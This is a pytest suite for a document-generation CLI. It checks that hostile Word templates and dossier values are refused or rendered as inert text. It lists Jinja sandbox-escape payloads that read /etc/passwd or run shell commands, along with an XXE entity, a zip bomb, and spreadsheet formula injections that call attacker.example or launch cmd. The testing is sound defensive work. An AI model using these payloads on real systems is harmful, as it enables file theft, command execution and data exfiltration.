"""Template injection: a template brought with ``--templates DIR`` cannot reach Python, files or the
network. Each hostile template is a built-in one (``itdocs templates export``) with a payload typed
into one paragraph of word/document.xml, as someone would in Word. It is refused before anything is
written, with one line naming the template; no byte of /etc/passwd reaches any output or file.
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from clirun import run_itdocs
from conftest import SAMPLES
from docx import Document

from itdocs.cli import main

SAMPLE = SAMPLES / "procurement-erp-ops.yaml"
PASSWD = Path("/etc/passwd")
SECRET = PASSWD.read_text().splitlines()[0] if PASSWD.exists() else "root:x:0:0:"
TARGET = "{{ contract.title }}"  # the first paragraph of contract.docx

PAYLOADS = {
    "cycler-globals": "{{ cycler.__init__.__globals__ }}",
    "mro-subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template-reference-context": "{{ self._TemplateReference__context }}",
    "lipsum-os-popen": "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "joiner-os-system": "{{ joiner.__init__.__globals__.os.system('touch PWNED') }}",
    "namespace-builtins": "{{ namespace.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "record-class-walk": "{{ contract.__class__.__init__.__globals__['sys'].modules['os'] }}",
    "subscript-dunder": "{{ contract['__class__']['__base__'] }}",
    "attr-filter": "{{ (contract|attr('__class__')).__name__ }}",
    "request-like-chain": "{{ config.__class__.__init__.__globals__['os'].environ }}",
    "include-passwd": "{% include '/etc/passwd' %}",
    "include-relative": "{% include '../../../../etc/passwd' %}",
    "import-as": "{% import 'x' as y %}",
    "from-import": "{% from '/etc/passwd' import root %}",
    "extends": "{% extends '/etc/passwd' %}",
    "dead-branch": "{% if false %}{{ cycler.__init__.__globals__ }}{% endif %}",
    "in-a-loop": "{% for x in [1] %}{{ x.__class__ }}{% endfor %}",
    "set-then-walk": "{% set c = cycler %}{{ c.__init__ }}",
    "format-string-walk": "{{ '{0.__class__}'.format(contract) }}",
    "cve-2024-56326": "{% set f = '{0.__init__.__globals__}'.format %}{{ f(cycler) }}",
    "cve-2025-27516": "{{ ('{0.__class__}'|attr('format'))(contract) }}",
    "attr-format": "{% set s = 'x' %}{{ (s|attr('format'))(contract) }}",
    "format-map": "{{ '{x}'.format_map({'x': contract}) }}",
    "attr-built-at-runtime": "{{ contract|attr('_' ~ '_class_' ~ '_') }}",
}

# Not visible to a static reading (the name is built at run time): the sandbox refuses them while
# rendering, with one error line for the document and nothing written for it.
RUNTIME = {
    "format-field-built-at-runtime": ("{{ ('{0.' ~ '_' ~ '_class__}').format(contract) }}", "拒绝"),
    "getattr-built-at-runtime": ("{{ contract[('_' ~ '_class_' ~ '_')] }}", "拒绝"),
    "huge-range": ("{{ range(10**9)|list }}", "Range too big"),
    "huge-string": ("{{ 'x' * 10**9 }}", "拒绝"),
    "huge-power": ("{{ 10 ** 999999999 }}", "拒绝"),
}


def _set_text(xml: str, old: str, new: str) -> str:
    assert old in xml
    return xml.replace(old, html.escape(new, quote=False), 1)


def inject(
    template: bytes,
    payload: str,
    *,
    part: str = "word/document.xml",
    old: str = TARGET,
    split: bool = False,
) -> bytes:
    """The template with ``old`` (the text of one run) replaced by ``payload``; ``split`` spreads
    the payload over three runs, as Word does when formatting changes mid-word."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename == part:
                xml = data.decode("utf-8")
                if split:
                    third = len(payload) // 3
                    pieces = [payload[:third], payload[third : 2 * third], payload[2 * third :]]
                    run = '</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">'
                    xml = xml.replace(old, run.join(html.escape(p, quote=False) for p in pieces), 1)
                else:
                    xml = _set_text(xml, old, payload)
                data = xml.encode("utf-8")
            dst.writestr(info, data)
    return out.getvalue()


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    """The built-in templates, exported the way a user starts adapting them."""
    folder = tmp_path_factory.mktemp("exported")
    result = CliRunner().invoke(main, ["templates", "export", str(folder)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return folder


def _templates(tmp_path: Path, name: str, data: bytes) -> Path:
    """A --templates folder holding one (hostile) template."""
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / name).write_bytes(data)
    return folder


def _no_secret_anywhere(root: Path, *outputs: str) -> None:
    for text in outputs:
        assert SECRET not in text
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data, path
            if path.suffix == ".docx":
                with zipfile.ZipFile(path) as package:
                    for member in package.namelist():
                        assert SECRET.encode() not in package.read(member), (path, member)


def _refused_in_one_line(result, template: Path, out: Path) -> None:
    assert result.exit_code == 2, result.output
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1, result.output
    assert lines[0].startswith(f"itdocs: error: {template}: 模板被拒绝 (template refused)"), lines
    assert not out.exists(), "nothing is written when a template is refused"


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_payload_is_refused_before_anything_is_written(payload, cli, exported, tmp_path):
    data = inject((exported / "contract.docx").read_bytes(), payload)
    folder = _templates(tmp_path, "contract.docx", data)
    out = tmp_path / "out"
    result = cli("generate", SAMPLE, "-o", out, "--templates", folder)
    _refused_in_one_line(result, folder / "contract.docx", out)
    _no_secret_anywhere(tmp_path, result.output)
    assert not Path("PWNED").exists()


@pytest.mark.parametrize(
    "payload", ["{{ cycler.__init__.__globals__ }}", "{% include '/etc/passwd' %}"]
)
def test_payload_split_across_runs_is_refused(payload, cli, exported, tmp_path):
    data = inject((exported / "contract.docx").read_bytes(), payload, split=True)
    folder = _templates(tmp_path, "contract.docx", data)
    result = cli("generate", SAMPLE, "-o", tmp_path / "out", "--templates", folder)
    _refused_in_one_line(result, folder / "contract.docx", tmp_path / "out")


def test_payload_in_a_header_is_refused(cli, exported, tmp_path):
    data = inject(
        (exported / "contract.docx").read_bytes(),
        "{{ self._TemplateReference__context }}",
        part="word/header1.xml",
        old="{{ project.name }}",
    )
    folder = _templates(tmp_path, "contract.docx", data)
    result = cli("generate", SAMPLE, "-o", tmp_path / "out", "--templates", folder)
    _refused_in_one_line(result, folder / "contract.docx", tmp_path / "out")


@pytest.mark.parametrize("name", ["weekly_report.docx", "acceptance_report.docx"])
def test_a_hostile_template_is_refused_even_when_this_run_does_not_use_it(
    name, cli, exported, tmp_path
):
    """weekly_report.docx overrides periodic_report.docx for one type; acceptance_report.docx is
    not needed for ``--only contract``: both are checked all the same."""
    source = exported / ("periodic_report.docx" if name == "weekly_report.docx" else name)
    xml = zipfile.ZipFile(source).read("word/document.xml").decode()
    first = re.search(r"\{\{[^}]*\}\}", xml).group()
    data = inject(source.read_bytes(), "{% include '/etc/passwd' %}", old=first)
    folder = _templates(tmp_path, name, data)
    result = cli(
        "generate", SAMPLE, "-o", tmp_path / "out", "--templates", folder, "--only", "contract"
    )
    _refused_in_one_line(result, folder / name, tmp_path / "out")


@pytest.mark.parametrize("key", list(RUNTIME), ids=list(RUNTIME))
def test_runtime_escapes_are_refused_by_the_sandbox(key, cli, exported, tmp_path):
    payload, message = RUNTIME[key]
    data = inject((exported / "contract.docx").read_bytes(), payload)
    folder = _templates(tmp_path, "contract.docx", data)
    out = tmp_path / "out"
    result = cli("generate", SAMPLE, "-o", out, "--templates", folder, "--only", "contract")
    assert result.exit_code == 2, result.output
    [error] = [line for line in result.stderr.splitlines() if line.startswith("itdocs: error:")]
    assert error.startswith(f"itdocs: error: {folder / 'contract.docx'}: ") and message in error, (
        error
    )
    assert "Traceback" not in result.output
    assert not out.exists() or not any(out.iterdir())


def test_entity_declaration_in_a_template_is_refused(cli, exported, tmp_path):
    data = (exported / "contract.docx").read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            member = src.read(info)
            if info.filename == "word/document.xml":
                xml = member.decode()
                xml = xml.replace(
                    "?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1
                )
                member = xml.replace(TARGET, "&xxe;", 1).encode()
            dst.writestr(info, member)
    folder = _templates(tmp_path, "contract.docx", out.getvalue())
    result = cli("generate", SAMPLE, "-o", tmp_path / "out", "--templates", folder)
    _refused_in_one_line(result, folder / "contract.docx", tmp_path / "out")
    assert "DOCTYPE/ENTITY" in result.output
    _no_secret_anywhere(tmp_path, result.output)


def test_zip_bomb_template_is_refused_in_bounded_memory(exported, tmp_path):
    """word/document.xml inflating to 1 GiB of spaces (~1 MB on disk)."""
    source = zipfile.ZipFile(exported / "contract.docx")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/document.xml":
                head, tail = data.split(b"<w:body>", 1)
                with dst.open(info.filename, "w", force_zip64=True) as member:
                    member.write(head + b"<w:body>")
                    block = b" " * (1 << 20)
                    for _ in range(1024):
                        member.write(block)
                    member.write(tail)
                continue
            dst.writestr(info, data)
    folder = _templates(tmp_path, "contract.docx", out.getvalue())
    run = run_itdocs("generate", SAMPLE, "-o", tmp_path / "out", "--templates", folder)
    assert run.returncode == 2 and not run.timed_out, run
    assert run.lines() == [run.lines()[0]] and "模板被拒绝" in run.output, run
    assert run.peak_rss_mb < 300 and run.seconds < 20, run
    assert not (tmp_path / "out").exists()


def test_the_real_command_line_refuses_include(exported, tmp_path):
    data = inject((exported / "contract.docx").read_bytes(), "{% include '/etc/passwd' %}")
    folder = _templates(tmp_path, "contract.docx", data)
    run = run_itdocs("generate", SAMPLE, "-o", tmp_path / "out", "--templates", folder)
    assert run.returncode == 2 and len(run.lines()) == 1, run
    assert run.lines()[0].startswith(f"itdocs: error: {folder / 'contract.docx'}: 模板被拒绝"), run
    _no_secret_anywhere(tmp_path, run.output)


def test_clean_exported_templates_render_as_the_built_in_ones(cli, exported, tmp_path):
    builtin = cli("generate", SAMPLE, "-o", tmp_path / "builtin")
    assert builtin.exit_code == 0, builtin.output
    user = cli("generate", SAMPLE, "-o", tmp_path / "user", "--templates", exported)
    assert user.exit_code == 0, user.output
    made = sorted(p.name for p in (tmp_path / "builtin").iterdir())
    assert made and made == sorted(p.name for p in (tmp_path / "user").iterdir())
    for name in made:
        assert (tmp_path / "builtin" / name).read_bytes() == (tmp_path / "user" / name).read_bytes()
        if name.endswith(".docx"):
            Document(str(tmp_path / "user" / name))


@pytest.mark.parametrize(
    "value",
    [
        "{{ cycler.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{{ 7 * 7 }}",
        "{%p if true %}x{%p endif %}",
    ],
)
def test_template_syntax_in_dossier_values_is_plain_text(value, cli, tmp_path):
    """The realistic injection: Jinja typed into a dossier lands in the document as text."""
    from generate_helpers import docx_text, small_dossier, write_dossier

    data = small_dossier(name=value)
    data["requirement"]["content"] = value
    path = write_dossier(tmp_path, data)
    result = cli("generate", path, "-o", tmp_path / "out", "--only", "requirement_form")
    assert result.exit_code == 0, result.output
    [written] = list((tmp_path / "out").iterdir())
    text = docx_text(written)
    assert value in text and "49" not in text.replace(value, "")
    _no_secret_anywhere(tmp_path, result.output)


def test_formulas_in_dossier_text_stay_text_in_workbooks(tmp_path):
    """Spreadsheet formula injection: dossier text starting with "=" is stored as text; only the
    formulas the workbook code writes are live."""
    from generate_helpers import small_dossier, write_dossier
    from openpyxl import load_workbook

    evil = '=WEBSERVICE("http://attacker.example/?"&A1)'
    data = small_dossier(name='=HYPERLINK("http://attacker.example","点击")')
    data["suppliers"]["candidates"][0]["name"] = "=1+1"
    data["suppliers"]["candidates"][0]["notes"] = evil
    data["risks"] = [
        {
            "id": "R1",
            "category": "technical",
            "description": evil,
            "likelihood": 3,
            "impact": 4,
            "response": "=cmd|' /C calc'!A0",
            "owner": "=A1",
            "identified": "2026-09-01",
            "status": "open",
        }
    ]
    path = write_dossier(tmp_path, data)
    import itdocs

    result = itdocs.generate(path, tmp_path / "out", only=["risk_register", "supplier_evaluation"])
    assert len(result.written) == 2 and not result.errors, result.errors
    planted = {evil, "=1+1", "=cmd|' /C calc'!A0", "=A1"}
    seen, live = set(), 0
    for item in result.written:
        for sheet in load_workbook(item.path):
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value in planted or (
                        isinstance(cell.value, str) and "attacker" in cell.value
                    ):
                        assert cell.data_type == "s", (item.path.name, cell.coordinate, cell.value)
                        seen.add(cell.value)
                    elif cell.data_type == "f":
                        live += 1
    assert planted <= seen and live, (seen, live)  # the workbook's own formulas are still formulas
